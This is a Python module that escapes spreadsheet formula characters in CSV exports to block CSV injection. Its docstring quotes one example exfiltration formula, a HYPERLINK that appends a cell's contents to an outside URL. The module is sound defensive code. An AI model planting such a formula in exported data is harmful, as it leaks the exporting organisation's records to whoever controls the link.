"""CSV meant to be opened in a spreadsheet.

Exports are opened in Excel, WPS or LibreOffice, which run a cell that starts with "=", "+", "-"
or "@" (or a tab or carriage return before one) as a formula: a subject of
`=HYPERLINK("http://…?"&A2, "details")` mailed in by anyone would become a live link that sends
the next cell away. Such a text gets a leading apostrophe, which spreadsheets take as "this is
text" (the advice of OWASP on CSV injection). Numbers are written as they are.
"""
from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, TextIO

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def cell(value: Any) -> Any:
    """The value as a spreadsheet shows it, never run: a lone "-" or "+" is left as it is."""
    if isinstance(value, str) and len(value) > 1 and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SheetWriter:
    """csv.writer whose text cells are never run as formulas."""

    def __init__(self, out: TextIO, **options: Any):
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)
